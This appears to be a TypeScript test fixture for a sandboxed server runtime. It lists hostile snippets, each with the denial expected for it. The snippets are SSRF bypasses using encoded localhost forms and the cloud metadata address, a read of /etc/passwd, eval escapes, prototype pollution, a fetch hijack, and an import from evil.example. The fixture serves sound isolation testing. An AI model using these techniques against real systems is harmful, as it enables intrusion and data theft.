// What a hostile `src/custom.ts` may try, each with what comes of it. A snippet is
// the body of an async function that knows `at` (addresses: `api` is the server's
// own API, `stranger` another program of this machine, `studio` the studio, `port`
// the stranger's port) and `fetched(url, init)`, which sums an answer up.

/** Our outbound entrypoint says no. */
const DENIED = { status: 403, error: "egress_denied" };
/** The runtime itself does. */
const thrown = (pattern) => ({ thrown: pattern });

const EVAL = thrown(/EvalError: Code generation from strings disallowed/);

/** Programs that the API's server must not be able to reach, under any spelling. */
export const NETWORK = {
  "a host on the internet": ['return fetched("https://example.com/")', DENIED],
  "another program of this machine": ["return fetched(at.stranger)", DENIED],
  "the studio's own API": ['return fetched(at.studio + "/api/projects")', DENIED],
  "another hosted server": ['return fetched(at.studio + "/s/harbour/mcp")', DENIED],
  "localhost by name": ["return fetched(`http://localhost:${at.port}/`)", DENIED],
  "localhost with a dot behind": ["return fetched(`http://localhost.:${at.port}/`)", DENIED],
  "an address in decimal": ["return fetched(`http://2130706433:${at.port}/`)", DENIED],
  "an address in hexadecimal": ["return fetched(`http://0x7f.1:${at.port}/`)", DENIED],
  "an address in octal": ["return fetched(`http://0177.0.0.1:${at.port}/`)", DENIED],
  "an address in circled digits": ["return fetched(`http://①②⑦.0.0.1:${at.port}/`)", DENIED],
  "the loopback of IPv6": ["return fetched(`http://[::1]:${at.port}/`)", DENIED],
  "IPv4 in IPv6": ["return fetched(`http://[::ffff:127.0.0.1]:${at.port}/`)", DENIED],
  "metadata of the cloud": ['return fetched("http://169.254.169.254/latest/meta-data/")', DENIED],
  "the API as a user name": [
    "return fetched(`http://${new URL(at.api).host}@127.0.0.1:${at.port}/`)",
    DENIED,
  ],
  "another port of the API's host": [
    "return fetched(`http://${new URL(at.api).hostname}:${at.port}/`)",
    DENIED,
  ],
  "a redirect of the API": ['return fetched(at.api + "/v2/answers/elsewhere")', DENIED],
  "a WebSocket": [
    'return fetched(at.stranger, { headers: { upgrade: "websocket" } })',
    DENIED,
  ],
  "a WebSocket by its class": [
    `const socket = new WebSocket(at.stranger.replace("http", "ws"));
     return new Promise((resolve) => {
       socket.addEventListener("open", () => resolve("open"));
       socket.addEventListener("error", () => resolve("refused"));
       socket.addEventListener("close", () => resolve("refused"));
     });`,
    "refused",
  ],
  "a socket of Node.js": [
    `const net = globalThis.process?.getBuiltinModule?.("node:net");
     return net && new Promise((resolve) => {
       const socket = net.connect(Number(at.port), "127.0.0.1", () => resolve("open"));
       socket.on("error", () => resolve("refused"));
     });`,
    undefined,
  ],
  "a request without end": [
    `const pull = (controller) => controller.enqueue(new Uint8Array(1 << 20));
     return fetched(at.api + "/x", { method: "POST", body: new ReadableStream({ pull }), duplex: "half" });`,
    { status: 413, error: "request_too_large" },
  ],
  "an event source": [
    `const source = new EventSource(at.stranger);
     return new Promise((resolve) => {
       source.onopen = () => resolve("open");
       source.onerror = () => { source.close(); resolve("refused"); };
     });`,
    "refused",
  ],
  "the API under another Host": [
    'return fetched(at.api + "/no-such-path", { headers: { host: new URL(at.stranger).host } })',
    { status: 404 },
  ],
  "a file": ['return fetched("file:///etc/passwd")', thrown(/TypeError/)],
  "an address of data": ['return fetched("data:text/plain,x")', thrown(/./)],
  "credentials of schemes that it has not": [
    'return fetched(at.api + "/x", { headers: { "mcpengine-auth": "other|../admin|__proto__" } })',
    { status: 401, error: "missing_credential" },
  ],
};

export const CODE = {
  eval: ['return eval("1 + 1")', EVAL],
  "a function from text": ['return new Function("return 1")()', EVAL],
  "an async function from text": ['return (async () => {}).constructor("return 1")()', EVAL],
  "a generator from text": ['return (function* () {}).constructor("yield 1")()', EVAL],
  "a timer with text": [
    'return new Promise((resolve) => { globalThis.done = resolve; setTimeout("done(1)", 0); })',
    thrown(/TypeError/),
  ],
  WebAssembly: [
    "return WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
    thrown(/WebAssembly/),
  ],
};

const NAMES = [
  "require",
  "Deno",
  "Bun",
  "process",
  "Buffer",
  "Worker",
  "SharedWorker",
  "BroadcastChannel",
  "XMLHttpRequest",
  "indexedDB",
  "localStorage",
  "importScripts",
  "MCPENGINE_RUNTIME",
  "DB",
  "BUCKET",
  "LOADER",
  "ASSETS",
];

export const SURROUNDINGS = {
  "all bindings": [
    "return Object.keys(env).sort()",
    ["API_BASE_URL", "MCPENGINE_HOSTED"],
  ],
  "values of the platform": [
    `return ${JSON.stringify(NAMES)}.filter((name) =>
       name.split(".").reduce((it, part) => it?.[part], globalThis) !== undefined)`,
    [],
  ],
  "the environment of the process": [
    "return typeof process",
    "undefined",
  ],
  "modules of Node.js through the process": [
    `const names = ["fs", "net", "http", "child_process", "vm", "worker_threads", "dns", "os", "module"];
     return names.filter((name) => globalThis.process?.getBuiltinModule?.("node:" + name))`,
    [],
  ],
  "what a stack shows": [
    "return new Error().stack.split('\\n').slice(1).map((line) => /([^(/\\s]+\\.js):/.exec(line)?.[1]).filter((name) => name && !/^(custom|server|runtime|worker|endpoint|progress)\\.js$/.test(name))",
    [],
  ],
  "frames through prepareStackTrace": [
    `Error.prepareStackTrace = (_, frames) => frames.map((frame) => String(frame.getThis()));
     try { return [...new Set(new Error().stack)].filter((it) => !/undefined|null/.test(it)); }
     finally { delete Error.prepareStackTrace; }`,
    [],
  ],
};

/** An isolate of the loader has no cache at all: what tries to use one fails. */
const KEEP = `
  const url = "https://cache.example/x";
  const headers = { "cache-control": "max-age=600" };
  const keep = async (cache) => {
    await cache?.put(url, new Response("mine", { headers })).catch(() => undefined);
    return true;
  };
  const kept = async (cache) => {
    const found = await cache?.match(url).catch(() => undefined);
    return found === undefined ? "nothing" : found.text();
  };`;

/** Left behind in one server; another, with the same code, must not find it. */
export const TRACES = {
  "a polluted prototype": [
    'for (const { prototype } of [Object, Array]) Object.defineProperty(prototype, "polluted", { value: "yes" }); return true',
    "return [{}.polluted, [].polluted].map(String)",
    ["undefined", "undefined"],
  ],
  "a global": [
    'globalThis.shared = "yes"; return true',
    "return String(globalThis.shared)",
    "undefined",
  ],
  "a built-in that is not itself": [
    "const own = Map.prototype.get; Map.prototype.get = function (key) { return key === 'x' ? 'mine' : own.call(this, key); }; return new Map([['x', 'theirs']]).get('x') === 'mine'",
    "return new Map([['x', 'theirs']]).get('x')",
    "theirs",
  ],
  "another fetch": [
    "globalThis.stolen = []; const own = fetch; globalThis.fetch = (...all) => { stolen.push(all); return own(...all); }; return true",
    "return String(globalThis.stolen)",
    "undefined",
  ],
  "the default cache": [
    `${KEEP} return keep(caches.default)`,
    `${KEEP} return kept(caches.default)`,
    "nothing",
  ],
  "a named cache": [
    `${KEEP} return keep(await caches.open("shared").catch(() => undefined))`,
    `${KEEP} return kept(await caches.open("shared").catch(() => undefined))`,
    "nothing",
  ],
};

/** Source that is refused before anything of it runs. */
export const REFUSED_SOURCES = {
  "sockets of the platform": 'import { connect } from "cloudflare:sockets"; connect;',
  "the platform's own module": 'import { env } from "cloudflare:workers"; env;',
  "a module of Node.js": 'import fs from "node:fs"; fs;',
  "a package": 'import zod from "zod"; zod;',
  "a module from an address": 'export * from "https://evil.example/x.js";',
  "a file outside the project": 'import x from "../../build/index.js"; x;',
  "an import at run time": 'export const x = () => import("./server.js");',
  "the module's own address": "export const x = import.meta.url;",
  "a module of CommonJS": 'import fs = require("fs"); fs;',
  "a file that is none": "export const = ;",
};
